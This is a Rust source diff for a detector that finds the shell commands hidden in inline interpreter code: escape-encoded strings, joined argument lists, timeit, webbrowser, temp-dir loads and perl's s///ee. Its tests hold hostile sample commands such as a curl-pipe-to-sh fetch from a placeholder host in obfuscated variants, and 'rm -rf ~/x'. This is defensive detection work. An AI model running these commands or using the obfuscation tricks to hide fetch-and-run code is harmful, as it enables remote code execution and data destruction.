@@ -130,7 +130,7 @@ pub struct InlineCode {
 /// Options of each language that take the next word as their value.
 fn value_option(lang: Lang, a: &str) -> bool {
     match lang {
-        Lang::Python => matches!(a, "-W" | "-X"),
+        Lang::Python => matches!(a, "-W" | "-X" | "--check-hash-based-pycs"),
         Lang::Js => matches!(a, "-r" | "--require" | "--import" | "--input-type"),
         Lang::Perl | Lang::Ruby => matches!(a, "-I" | "-C"),
         Lang::Php => matches!(a, "-d" | "-c"),
@@ -150,7 +150,8 @@ fn code_option(lang: Lang, a: &str) -> bool {
         })
     };
     match lang {
-        Lang::Python => cluster("BdEIOqsSuv", &['c']),
+        // Every switch python takes with no value (`-bc CODE` runs CODE).
+        Lang::Python => cluster("bBdEhiIOPqRsSuvVx", &['c']),
         Lang::Js => matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep"),
         Lang::Perl => cluster("lnpasTtwWU", &['e', 'E']),
         Lang::Ruby => cluster("lnpaswWdv", &['e']),
@@ -213,7 +214,24 @@ fn code_source(lang: Lang, program: &str, argv: &[String]) -> Source {
                         file_at(script_source(lang, f), i + 1)
                     });
                 }
-                "-F" | "-v" => i += 2,
+                // gawk's program text given by option.
+                "-e" | "--source" => {
+                    return if argv.len() > i + 1 {
+                        Source::Argv(i + 1, 0)
+                    } else {
+                        Source::Elsewhere
+                    };
+                }
+                // gawk's `-E FILE` is a program file like `-f`'s; `-i FILE`
+                // includes one.
+                "-E" | "--exec" | "-i" | "--include" => {
+                    return argv.get(i + 1).map_or(Source::Elsewhere, |f| {
+                        file_at(script_source(lang, f), i + 1)
+                    });
+                }
+                // Options with a value: mawk's and gawk's `-W OPT`, gawk's
+                // `-l LIB` (judged where it lives as a library it loads).
+                "-F" | "-v" | "-W" | "-l" | "--load" => i += 2,
                 s if s.starts_with('-') => i += 1,
                 _ => return Source::Argv(i, 0),
             }
@@ -617,10 +635,79 @@ fn unescape_char(c: char) -> Option<char> {
         'n' => '\n',
         't' => '\t',
         'r' => '\r',
-        '0' => '\0',
         '\\' | '"' | '\'' | '`' | '$' | '/' => c,
         _ => return None,
     })
+}
+
+/// What a backslash followed by `n` stands for in a string literal.
+enum Escape {
+    Char(char),
+    Unknown,
+    None,
+}
+
+/// A numeric or named escape (`\x63`, octal `\143`, `\u0063`, `\u{63}`,
+/// `\U00000063`, Lua's decimal `\99`, python's `\N{…}`), `n` being the
+/// character after the backslash and `i` the index just past it (moved
+/// past the escape's digits).
+fn numeric_escape(lang: Lang, n: char, chars: &[char], i: &mut usize) -> Escape {
+    let digits = |i: &mut usize, radix: u32, max: usize| -> String {
+        let mut d = String::new();
+        while d.len() < max
+            && let Some(&c) = chars.get(*i)
+            && c.is_digit(radix)
+        {
+            d.push(c);
+            *i += 1;
+        }
+        d
+    };
+    let code = |d: &str, radix: u32| -> Escape {
+        u32::from_str_radix(d, radix)
+            .ok()
+            .and_then(char::from_u32)
+            .map_or(Escape::Unknown, Escape::Char)
+    };
+    match n {
+        'a' => Escape::Char('\u{7}'),
+        'b' => Escape::Char('\u{8}'),
+        'f' => Escape::Char('\u{c}'),
+        'v' => Escape::Char('\u{b}'),
+        'e' if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) => Escape::Char('\u{1b}'),
+        'x' | 'u' | 'U' if chars.get(*i) == Some(&'{') => {
+            // `\x{63}` (perl), `\u{63}` (JS, ruby, PHP, lua).
+            *i += 1;
+            let d = digits(i, 16, 8);
+            if chars.get(*i) != Some(&'}') || d.is_empty() {
+                return Escape::Unknown;
+            }
+            *i += 1;
+            code(&d, 16)
+        }
+        'x' => match digits(i, 16, 2) {
+            d if d.is_empty() => Escape::Unknown,
+            d => code(&d, 16),
+        },
+        'u' if lang != Lang::Perl => match digits(i, 16, 4) {
+            d if d.len() == 4 => code(&d, 16),
+            _ => Escape::Unknown,
+        },
+        'U' if lang == Lang::Python => match digits(i, 16, 8) {
+            d if d.len() == 8 => code(&d, 16),
+            _ => Escape::Unknown,
+        },
+        'N' if lang == Lang::Python => Escape::Unknown,
+        '0'..='9' if lang == Lang::Lua => {
+            *i -= 1;
+            code(&digits(i, 10, 3), 10)
+        }
+        '0'..='7' => {
+            *i -= 1;
+            code(&digits(i, 8, 3), 8)
+        }
+        _ => Escape::None,
+    }
 }
 
 /// The code's tokens, and whether a cap (code length, token count) cut
@@ -635,41 +722,60 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
     let mut f_prefix = false;
     // Read a quoted run from `i` (just past the opening `open`); `interp`
     // is set when the run interpolates values in `lang`.
-    let read_quoted = |i: &mut usize, open: char, raw: bool, interp: &mut bool| -> String {
-        let close = closing(open);
-        let mut depth = 0usize;
-        let mut s = String::new();
-        while let Some(&c) = chars.get(*i) {
-            *i += 1;
-            if !raw && interpolation_at(lang, c, chars.get(*i).copied()) {
-                *interp = true;
-            }
-            if c == '\\' && !raw {
-                if let Some(&n) = chars.get(*i) {
-                    *i += 1;
-                    match unescape_char(n) {
-                        Some(u) => s.push(u),
-                        None => {
-                            s.push('\\');
-                            s.push(n);
+    // `unknown` is set when the run holds an escape read but not decoded.
+    let read_quoted =
+        |i: &mut usize, open: char, raw: bool, interp: &mut bool, unknown: &mut bool| -> String {
+            let close = closing(open);
+            let mut depth = 0usize;
+            let mut s = String::new();
+            while let Some(&c) = chars.get(*i) {
+                *i += 1;
+                if !raw && interpolation_at(lang, c, chars.get(*i).copied()) {
+                    *interp = true;
+                }
+                if c == '\\' && !raw {
+                    if let Some(&n) = chars.get(*i) {
+                        *i += 1;
+                        match unescape_char(n) {
+                            Some(u) => s.push(u),
+                            None => match numeric_escape(lang, n, chars, i) {
+                                // `\x63`, `\143`, `\u0063`, `\u{63}`: the
+                                // character the language reads there.
+                                Escape::Char(u) => s.push(u),
+                                // An escape read here but not decoded (`\N{…}`,
+                                // a code point that is no character): what the
+                                // literal holds is not known.
+                                Escape::Unknown => {
+                                    *unknown = true;
+                                    s.push('\\');
+                                    s.push(n);
+                                }
+                                // Not an escape of the language: python, PHP
+                                // and R keep the backslash, the others drop it.
+                                Escape::None => {
+                                    if matches!(lang, Lang::Python | Lang::Php | Lang::R) {
+                                        s.push('\\');
+                                    }
+                                    s.push(n);
+                                }
+                            },
                         }
                     }
-                }
-            } else if c == close && depth == 0 {
-                return s;
-            } else {
-                if open != close {
-                    if c == open {
-                        depth += 1;
-                    } else if c == close {
-                        depth -= 1;
+                } else if c == close && depth == 0 {
+                    return s;
+                } else {
+                    if open != close {
+                        if c == open {
+                            depth += 1;
+                        } else if c == close {
+                            depth -= 1;
+                        }
                     }
+                    s.push(c);
                 }
-                s.push(c);
             }
-        }
-        s
-    };
+            s
+        };
     while let Some(&c) = chars.get(i) {
         if toks.len() >= MAX_TOKENS {
             truncated = true;
@@ -689,7 +795,8 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                 };
                 let raw = c == '\'' && matches!(lang, Lang::Perl | Lang::Php);
                 let mut interp = false;
-                let mut s = read_quoted(&mut i, c, raw, &mut interp);
+                let mut unknown = false;
+                let mut s = read_quoted(&mut i, c, raw, &mut interp, &mut unknown);
                 if lang == Lang::Python && interpolating {
                     interp = s.replace("{{", "").contains('{');
                 }
@@ -702,7 +809,7 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                     }
                     _ => Quote::Plain,
                 };
-                toks.push(Tok::Str(s, quote, interpolating && interp));
+                toks.push(Tok::Str(s, quote, (interpolating && interp) || unknown));
             }
             '%' if lang == Lang::Ruby
                 && matches!(chars.get(i + 1), Some('x' | 'w' | 'W' | 'q' | 'Q'))
@@ -714,9 +821,14 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                 let open = chars[i + 2];
                 i += 3;
                 let mut interp = false;
-                let s = read_quoted(&mut i, open, false, &mut interp);
+                let mut unknown = false;
+                let s = read_quoted(&mut i, open, false, &mut interp, &mut unknown);
                 let interpolating = matches!(kind, 'x' | 'W' | 'Q');
-                toks.push(Tok::Str(s, word_quote(kind), interpolating && interp));
+                toks.push(Tok::Str(
+                    s,
+                    word_quote(kind),
+                    (interpolating && interp) || unknown,
+                ));
             }
             '#' if matches!(lang, Lang::Python | Lang::Ruby | Lang::Perl | Lang::R) => {
                 while chars.get(i).is_some_and(|&c| c != '\n') {
@@ -755,14 +867,19 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                     let open = next.unwrap_or('(');
                     i += 1;
                     let mut interp = false;
-                    let s = read_quoted(&mut i, open, name == "q", &mut interp);
+                    let mut unknown = false;
+                    let s = read_quoted(&mut i, open, name == "q", &mut interp, &mut unknown);
                     let kind = match name.as_str() {
                         "qx" => 'x',
                         "qw" => 'w',
                         _ => 'q',
                     };
                     let interpolating = matches!(name.as_str(), "qx" | "qq");
-                    toks.push(Tok::Str(s, word_quote(kind), interpolating && interp));
+                    toks.push(Tok::Str(
+                        s,
+                        word_quote(kind),
+                        (interpolating && interp) || unknown,
+                    ));
                     continue;
                 }
                 toks.push(Tok::Name(name));
@@ -829,6 +946,18 @@ enum Sink {
 /// `""` after an expression such as `__import__('os').`) runs a command or
 /// evaluates code in `lang`'s `code`.
 fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> {
+    // perl's built-ins named through their package (`CORE::system`,
+    // `&CORE::GLOBAL::exec`, `POSIX::system`) are the built-ins.
+    let name = match lang {
+        Lang::Perl => {
+            let bare = name.trim_start_matches('&');
+            ["CORE::GLOBAL::", "CORE::", "POSIX::"]
+                .iter()
+                .find_map(|p| bare.strip_prefix(p))
+                .unwrap_or(name)
+        }
+        _ => name,
+    };
     let unqualified_or = |quals: &[&str]| qual.is_none_or(|q| quals.contains(&q));
     let shell = |yes: bool| yes.then_some(Sink::Shell);
     match lang {
@@ -841,7 +970,11 @@ fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> 
                     || (qual.is_none() && code.contains("from os import")),
             ),
             "run" | "call" | "check_call" | "check_output" | "Popen" | "getoutput"
-            | "getstatusoutput" => shell(code.contains("subprocess") || code.contains("commands")),
+            | "getstatusoutput"
+                if !matches!(qual, Some("cProfile" | "profile")) =>
+            {
+                shell(code.contains("subprocess") || code.contains("commands"))
+            }
             // `""`: after an expression (`__builtins__.__dict__['exec']`).
             "exec" | "eval" => {
                 unqualified_or(&["builtins", "__builtins__", ""]).then_some(Sink::Code)
@@ -858,6 +991,14 @@ fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> 
             "create_subprocess_shell" | "create_subprocess_exec" => Some(Sink::Shell),
             // `pty.spawn(argv)` runs argv on a pseudo-terminal.
             "spawn" => shell(qual == Some("pty")),
+            // The library's evaluators of code strings: timing and
+            // profiling run the statement they are given.
+            "timeit" | "repeat" | "Timer" | "autorange" if qual == Some("timeit") => {
+                Some(Sink::Code)
+            }
+            "run" | "runctx" if matches!(qual, Some("cProfile" | "profile")) => Some(Sink::Code),
+            // `webbrowser.get('CMD %s')` runs CMD as the browser.
+            "get" | "register" if qual == Some("webbrowser") => Some(Sink::Shell),
             _ => None,
         },
         Lang::Js => match name {
@@ -1145,11 +1286,34 @@ impl Code<'_> {
                 && (w[2] == Tok::Punct('=') || (w[1] == Tok::Punct('<') && w[2] == Tok::Punct('<')))
         });
         let [at] = assigns[..] else { return None };
-        if changed {
+        if changed || self.changed_by_call(name) {
             return None;
         }
         let start = at + 2;
         Some((start, self.statement_end(start)))
+    }
+
+    /// Whether a call changes the value of `name` in place: awk's
+    /// `sub`/`gsub` (their target) and `getline NAME`, perl's `chomp`/`chop`,
+    /// ruby's bang methods and `replace`/`insert`/`prepend`/`concat`.
+    fn changed_by_call(&self, name: &str) -> bool {
+        let is_name = |t: Option<&Tok>| matches!(t, Some(Tok::Name(n)) if n == name);
+        let toks = &self.toks;
+        (0..toks.len()).any(|k| match (&toks[k], self.lang) {
+            (Tok::Name(f), Lang::Awk | Lang::Perl)
+                if matches!(f.as_str(), "sub" | "gsub" | "chomp" | "chop") =>
+            {
+                let (s, e) = self.call_args(k + 1);
+                (s..e).any(|j| is_name(toks.get(j)))
+            }
+            (Tok::Name(f), Lang::Awk) if f == "getline" => is_name(toks.get(k + 1)),
+            (Tok::Name(m), Lang::Ruby) if k >= 2 && is_name(toks.get(k - 2)) => {
+                toks[k - 1] == Tok::Punct('.')
+                    && (toks.get(k + 1) == Some(&Tok::Punct('!'))
+                        || matches!(m.as_str(), "replace" | "insert" | "prepend" | "concat"))
+            }
+            _ => false,
+        })
     }
 
     /// Fold `[start, end)` to the text it holds, as far as the code spells
@@ -1171,6 +1335,16 @@ impl Code<'_> {
         let mut found = false;
         let mut i = start;
         while i < end {
+            if self.toks[i] == Tok::Punct('[')
+                && let Some((joined, next)) = self.list_join(i, depth)
+            {
+                // `['curl', …].join(' ')`: one string, a command line.
+                found = true;
+                parts += 2;
+                out.push(Some(joined));
+                i = next;
+                continue;
+            }
             match &self.toks[i] {
                 Tok::Str(s, Quote::Plain, interp) => {
                     found = true;
@@ -1644,6 +1818,49 @@ impl Code<'_> {
         out.text.push_str(&parts.join(sep));
     }
 
+    /// A list literal opening at `open` joined by its `join` method
+    /// (`[a, b].join(sep)`, JS and ruby): the string it makes, and the
+    /// index past the call. A spread element (`[...'abc']`) or a separator
+    /// not spelled out makes it a value not known.
+    fn list_join(&self, open: usize, depth: usize) -> Option<(Folded, usize)> {
+        let list_end = self.group_end(open);
+        match (
+            self.toks.get(list_end),
+            self.toks.get(list_end + 1),
+            self.toks.get(list_end + 2),
+        ) {
+            (Some(Tok::Punct('.')), Some(Tok::Name(m)), Some(Tok::Punct('('))) if m == "join" => {}
+            _ => return None,
+        }
+        let close = self.group_end(list_end + 2);
+        let mut out = Folded::default();
+        let sep = if close == list_end + 4 {
+            // No separator: JS joins with commas, ruby with nothing.
+            if self.lang == Lang::Js { "," } else { "" }.to_string()
+        } else {
+            match self.fold(list_end + 3, close.saturating_sub(1), depth + 1) {
+                Some(f) if !f.opaque => f.text,
+                _ => {
+                    out.opaque = true;
+                    String::new()
+                }
+            }
+        };
+        let mut items = Vec::new();
+        for (s, e) in self.split_args(open + 1, list_end.saturating_sub(1)) {
+            if self.toks.get(s) == Some(&Tok::Punct('.')) {
+                out.opaque = true;
+            }
+            let mut item = Folded::default();
+            item.push(self.fold(s, e, depth + 1));
+            out.decoded |= item.decoded;
+            out.opaque |= item.opaque;
+            items.push(item.text);
+        }
+        out.text = items.join(&sep);
+        Some((out, close))
+    }
+
     /// The argv or command line a shell sink's arguments give.
     fn shell_command(&self, start: usize, end: usize, depth: usize) -> Option<Folded> {
         let mut argv = Argv {
@@ -1675,7 +1892,10 @@ impl Code<'_> {
             match self.toks.get(s) {
                 // A keyword argument (`shell=True`, `cwd='x'`).
                 Some(Tok::Name(_)) if self.toks.get(s + 1) == Some(&Tok::Punct('=')) => {}
-                Some(Tok::Punct('[')) => {
+                // A list literal that is the whole argument is an argv;
+                // one something is applied to (`[…].join(' ')`,
+                // `[…].reverse()`, `[…][1]`) is a value, folded below.
+                Some(Tok::Punct('[')) if self.group_end(s) >= e => {
                     let close = self.group_end(s).saturating_sub(1);
                     for (ws, we) in self.split_args(s + 1, close) {
                         argv.add(self.fold(ws, we, depth));
@@ -1706,7 +1926,23 @@ impl Code<'_> {
                 },
             }
         }
+        // JS's `{ shell: true }` (any value but `false`): the words are
+        // joined by spaces and run by a shell, so a `|` among them pipes.
+        let shell_option = self.lang == Lang::Js
+            && (start..end).any(|k| {
+                matches!(&self.toks[k], Tok::Name(n) if n == "shell")
+                    && self.toks.get(k + 1) == Some(&Tok::Punct(':'))
+                    && !matches!(self.toks.get(k + 2), Some(Tok::Name(v)) if v == "false")
+            });
         let mut words = argv.words;
+        if shell_option && words.len() > 1 {
+            return Some(Folded {
+                text: words.join(" "),
+                decoded: argv.decoded,
+                literal: argv.literal && !argv.opaque,
+                opaque: argv.opaque,
+            });
+        }
         // `execvp(file, [file, args…])` names the program twice.
         if words.len() > 1 && words[1].rsplit('/').next() == words[0].rsplit('/').next() {
             words.remove(0);
@@ -1744,6 +1980,14 @@ fn search(lang: Lang, code: &str, depth: usize, out: &mut InlineCode) {
     let names_home = ["HOME", "homedir", "Dir.home", "Path.home", "expanduser"]
         .iter()
         .any(|h| code.contains(h));
+    // Code loaded from a path in a temp dir or a stream (`require('/tmp/…')`,
+    // perl's `do "/dev/shm/…"`, `sys.path.insert(0, '/tmp/…')`,
+    // `spec_from_file_location(…, '/tmp/…')`): judged by where it lives,
+    // like a loader option's file, and not the project's.
+    out.facts.unresolved |= loads_from_temp(&c);
+    // A perl substitution whose replacement is evaluated twice (`s/…/…/ee`)
+    // runs the text the first evaluation gives: code not spelled out.
+    out.facts.unresolved |= lang == Lang::Perl && perl_double_eval(code);
     for (i, t) in c.toks.iter().enumerate() {
         if let Tok::Str(s, q, _) = t
             && *q != Quote::Command
@@ -1883,6 +2127,96 @@ fn run_sink(c: &Code, kind: Sink, s: usize, e: usize, depth: usize, out: &mut In
             }
         }
     }
+}
+
+/// Whether `c` hands a path in a temp dir or a stream to a call that loads
+/// code from it.
+fn loads_from_temp(c: &Code) -> bool {
+    let loader = |i: usize, n: &str| -> bool {
+        let qual = match (i.checked_sub(1).map(|k| &c.toks[k]), i.checked_sub(2)) {
+            (Some(Tok::Punct('.')), Some(k)) => match &c.toks[k] {
+                Tok::Name(q) => Some(q.as_str()),
+                _ => None,
+            },
+            _ => None,
+        };
+        match c.lang {
+            Lang::Python => {
+                matches!(
+                    n,
+                    "run_path" | "spec_from_file_location" | "SourceFileLoader" | "load_source"
+                ) || (matches!(n, "insert" | "append" | "extend") && qual == Some("path"))
+            }
+            Lang::Js => matches!(n, "require" | "createRequire" | "import" | "Worker"),
+            Lang::Perl => matches!(n, "do" | "require" | "lib"),
+            Lang::Ruby => matches!(n, "load" | "require" | "require_relative"),
+            Lang::Php => matches!(n, "include" | "require" | "include_once" | "require_once"),
+            Lang::Lua => matches!(n, "dofile" | "loadfile"),
+            Lang::R => matches!(n, "source" | "sys.source" | "dyn.load"),
+            Lang::Awk => false,
+        }
+    };
+    c.toks.iter().enumerate().any(|(i, t)| match t {
+        Tok::Name(n) if loader(i, n) => {
+            let (s, e) = c.call_args(i + 1);
+            (s..e.min(s + 16)).any(|k| {
+                matches!(&c.toks.get(k), Some(Tok::Str(p, Quote::Plain, _))
+                    if crate::code_env::temp_or_stream(p))
+            })
+        }
+        _ => false,
+    })
+}
+
+/// Whether perl code holds a substitution with the `ee` flags.
+fn perl_double_eval(code: &str) -> bool {
+    let b = code.as_bytes();
+    (0..b.len()).any(|i| {
+        b[i] == b's'
+            && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_'))
+            && b.get(i + 1)
+                .is_some_and(|d| d.is_ascii_punctuation() && *d != b'_')
+            && {
+                // s D pattern D replacement D flags (brackets pair: s{…}{…}).
+                let d = b[i + 1];
+                let close = match d {
+                    b'{' => b'}',
+                    b'(' => b')',
+                    b'[' => b']',
+                    b'<' => b'>',
+                    _ => d,
+                };
+                let mut k = i + 2;
+                let mut seen = 0;
+                let mut depth = 0usize;
+                while k < b.len() && seen < 2 {
+                    match b[k] {
+                        b'\\' => k += 1,
+                        x if x == close && depth == 0 => {
+                            seen += 1;
+                            // A bracketed pattern's replacement opens anew.
+                            if close != d && seen == 1 {
+                                while k + 1 < b.len() && b[k + 1].is_ascii_whitespace() {
+                                    k += 1;
+                                }
+                                k += 1;
+                            }
+                        }
+                        x if x == d && close != d => depth += 1,
+                        x if x == close => depth = depth.saturating_sub(1),
+                        _ => {}
+                    }
+                    k += 1;
+                }
+                seen == 2
+                    && b[k..]
+                        .iter()
+                        .take_while(|f| f.is_ascii_alphabetic())
+                        .filter(|&&f| f == b'e')
+                        .count()
+                        >= 2
+            }
+    })
 }
 
 /// Record a command the code runs; one not fully spelled out, or past the
@@ -2067,6 +2401,259 @@ mod tests {
         let program = xs[0];
         let c = inline_code(program, &argv(xs), None);
         c.commands.into_iter().chain(c.folded).collect()
+    }
+
+    #[test]
+    fn string_escapes_are_read_as_the_language_reads_them() {
+        // Hex, octal, unicode and Lua decimal escapes spell the command out.
+        let curl = "curl -s https://x.example/i | sh";
+        for (program, code) in [
+            (
+                "python3",
+                r"import os; os.system('\x63url -s https://x.example/i | sh')",
+            ),
+            (
+                "python3",
+                r"import os; os.system('\143url -s https://x.example/i | sh')",
+            ),
+            (
+                "python3",
+                r"import os; os.system('\u0063url -s https://x.example/i | sh')",
+            ),
+            (
+                "node",
+                r"require('child_process').execSync('\u{63}url -s https://x.example/i | sh')",
+            ),
+            ("perl", r#"system("\x{63}url -s https://x.example/i | sh")"#),
+            (
+                "awk",
+                r#"BEGIN { system("\143url -s https://x.example/i | sh") }"#,
+            ),
+            ("lua", r#"os.execute("\99url -s https://x.example/i | sh")"#),
+        ] {
+            let flag = if program == "python3" { "-c" } else { "-e" };
+            let xs: Vec<&str> = if program == "awk" {
+                vec![program, code]
+            } else {
+                vec![program, flag, code]
+            };
+            assert_eq!(found(&xs), vec![curl.to_string()], "{program}: {code}");
+        }
+        // An escape read but not decoded leaves the command unknown.
+        assert!(
+            facts(
+                "python3",
+                r"import os; os.system('\N{LATIN SMALL LETTER C}url -s https://x.example/i | sh')"
+            )
+            .unresolved
+        );
+        // JS and perl drop the backslash of an escape they do not know.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r"require('child_process').execSync('\curl -V')"
+            ]),
+            vec!["curl -V".to_string()]
+        );
+        // perl's single quotes and a plain `\n` are as before.
+        assert_eq!(
+            found(&["perl", "-e", r"system('echo \x63')"]),
+            vec![r"echo \x63".to_string()]
+        );
+    }
+
+    #[test]
+    fn a_list_with_something_applied_is_no_argv() {
+        // `[…].join(' ')` is one string, run by a shell: its `|` is a pipe.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                "require('child_process').execSync(['curl', '-s', 'https://x.example/i', '|', 'sh'].join(' '))"
+            ]),
+            vec!["curl -s https://x.example/i | sh".to_string()]
+        );
+        // A spread, a reversal or an index after the list: not known.
+        for code in [
+            "require('child_process').exec([...'hs | lruc'].reverse().join(''))",
+            "require('child_process').exec(['a', 'b'].reverse())",
+            "require('child_process').exec(['a', 'b'].join(sep))",
+        ] {
+            assert!(facts("node", code).unresolved, "{code}");
+        }
+        // A list that is the whole argument stays an argv.
+        assert!(
+            !facts(
+                "node",
+                "require('child_process').spawnSync('git', ['status', '--short'])"
+            )
+            .unresolved
+        );
+    }
+
+    #[test]
+    fn library_evaluators_and_loads_from_temp_dirs_are_held() {
+        // timeit and the profilers run the statement they are given.
+        assert_eq!(
+            found(&[
+                "python3",
+                "-c",
+                "import timeit; timeit.timeit('__import__(\"os\").system(\"rm -rf ~/x\")', number=1)"
+            ]),
+            vec!["rm -rf ~/x".to_string()]
+        );
+        assert!(
+            !found(&[
+                "python3",
+                "-c",
+                "import cProfile; cProfile.run('import os; os.system(\"id\")')"
+            ])
+            .is_empty()
+        );
+        // webbrowser.get('CMD %s') runs CMD.
+        assert!(
+            found(&[
+                "python3",
+                "-c",
+                "import webbrowser; webbrowser.get('sh -c \"id\" %s').open('x')"
+            ])
+            .iter()
+            .any(|c| c.starts_with("sh -c"))
+        );
+        // Code loaded from a temp dir or a stream.
+        for (program, code) in [
+            ("node", "require('/tmp/.w/x.js')"),
+            ("node", "require('module').createRequire('/tmp/.w/')('./x')"),
+            ("perl", "do \"/tmp/.w/p.pl\""),
+            (
+                "python3",
+                "import sys; sys.path.insert(0, '/dev/shm/.w'); import helper",
+            ),
+            (
+                "python3",
+                "import importlib.util as u; u.spec_from_file_location('m', '/tmp/m.py')",
+            ),
+        ] {
+            assert!(facts(program, code).unresolved, "{program}: {code}");
+        }
+        // From the project or the system's dirs it is the project's code.
+        for (program, code) in [
+            ("node", "require('./lib/x.js')"),
+            (
+                "python3",
+                "import sys; sys.path.insert(0, 'src'); import app",
+            ),
+        ] {
+            assert!(!facts(program, code).unresolved, "{program}: {code}");
+        }
+        // perl's s///ee evaluates the replacement's value.
+        assert!(facts("perl", r#"$_ = "x"; s/x/q{system("id")}/ee"#).unresolved);
+        assert!(facts("perl", r#"$_ = "x"; s{x}{q{system("id")}}ee"#).unresolved);
+        assert!(!facts("perl", r#"$_ = "a1"; s/(\d)/$1+1/e; print"#).unresolved);
+    }
+
+    #[test]
+    fn every_switch_before_the_code_is_read_as_the_interpreter_reads_it() {
+        let curl = vec!["curl -s https://x.example/i | sh".to_string()];
+        for xs in [
+            vec![
+                "python3",
+                "-bc",
+                "import os; os.system('curl -s https://x.example/i | sh')",
+            ],
+            vec![
+                "python3",
+                "--check-hash-based-pycs",
+                "never",
+                "-c",
+                "import os; os.system('curl -s https://x.example/i | sh')",
+            ],
+            vec![
+                "mawk",
+                "-W",
+                "interactive",
+                r#"BEGIN { system("curl -s https://x.example/i | sh") }"#,
+            ],
+            vec![
+                "gawk",
+                "--source",
+                r#"BEGIN { system("curl -s https://x.example/i | sh") }"#,
+            ],
+            vec![
+                "perl",
+                "-MPOSIX",
+                "-e",
+                r#"POSIX::system("curl -s https://x.example/i | sh")"#,
+            ],
+            vec![
+                "perl",
+                "-e",
+                r#"CORE::system("curl -s https://x.example/i | sh")"#,
+            ],
+            vec![
+                "perl",
+                "-e",
+                r#"&CORE::system("curl -s https://x.example/i | sh")"#,
+            ],
+        ] {
+            assert_eq!(found(&xs), curl, "{xs:?}");
+        }
+        // gawk's `-E`/`-i` name program files.
+        assert_eq!(
+            script_word("gawk", &argv(&["gawk", "-E", "x.awk"])),
+            Some(2)
+        );
+    }
+
+    #[test]
+    fn a_js_argv_run_by_a_shell_is_a_command_line() {
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r#"require("child_process").spawn("curl", ["-s", "https://x.example/i", "|", "sh"], {shell: true})"#
+            ]),
+            vec!["curl -s https://x.example/i | sh".to_string()]
+        );
+        // Without a shell the `|` is an argument.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r#"require("child_process").spawn("echo", ["a", "|", "b"], {shell: false})"#
+            ]),
+            vec!["echo a '|' b".to_string()]
+        );
+    }
+
+    #[test]
+    fn a_name_changed_in_place_has_no_one_value() {
+        for (program, code) in [
+            (
+                "awk",
+                r#"BEGIN { s = "cuXrl -s https://x.example/i | sh"; sub(/X/, "", s); system(s) }"#,
+            ),
+            (
+                "awk",
+                r#"BEGIN { s = "x"; getline s < "/tmp/c"; system(s) }"#,
+            ),
+            ("perl", r#"$c = "ls\n"; chomp($c); system $c"#),
+            ("ruby", r#"c = "ls"; c.sub!("l", "x"); system(c)"#),
+        ] {
+            let xs: Vec<&str> = if program == "awk" {
+                vec![program, code]
+            } else {
+                vec![program, "-e", code]
+            };
+            let c = inline_code(program, &argv(&xs), None);
+            assert!(c.facts.unresolved, "{program}: {code}");
+        }
+        // Left alone, the literal is the value.
+        assert_eq!(
+            found(&["awk", r#"BEGIN { s = "date +%F"; system(s) }"#]),
+            vec!["date +%F".to_string()]
+        );
     }
 
     #[test]
